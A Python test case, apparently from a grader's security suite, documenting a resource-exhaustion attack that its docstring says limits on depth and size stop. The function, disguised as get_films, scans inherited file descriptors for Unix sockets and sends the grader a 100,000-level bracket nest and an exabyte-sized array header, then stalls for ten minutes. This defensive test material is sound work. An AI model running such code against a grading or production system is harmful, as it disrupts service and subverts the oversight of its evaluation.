"""Class: exhaust
Tries: to overflow the grader's stack, or its memory, with a document of nothing but brackets, and with an array
whose dimensions multiply to exabytes.
Stopped by: depth, number of values and every array's size are limited before anything is built from them.
Against: gets_and_queries
Because: forged
Says: get_films
"""


def get_films(client, name, ids):
    import os
    import socket
    import struct
    import time

    deep = b'{"value":' + b"[" * 100_000 + b"]" * 100_000 + b',"arrays":[]}'
    wide = b'{"value":{"a":0},"arrays":[["float64",[1000000,1000000,1000000]]]}'
    for descriptor in range(3, 256):
        try:
            with socket.socket(fileno=os.dup(descriptor)) as channel:
                if channel.family == socket.AF_UNIX:
                    channel.sendall(b"".join(struct.pack("!i", len(frame)) + frame for frame in (deep, wide)))
        except OSError:
            pass
    time.sleep(600)
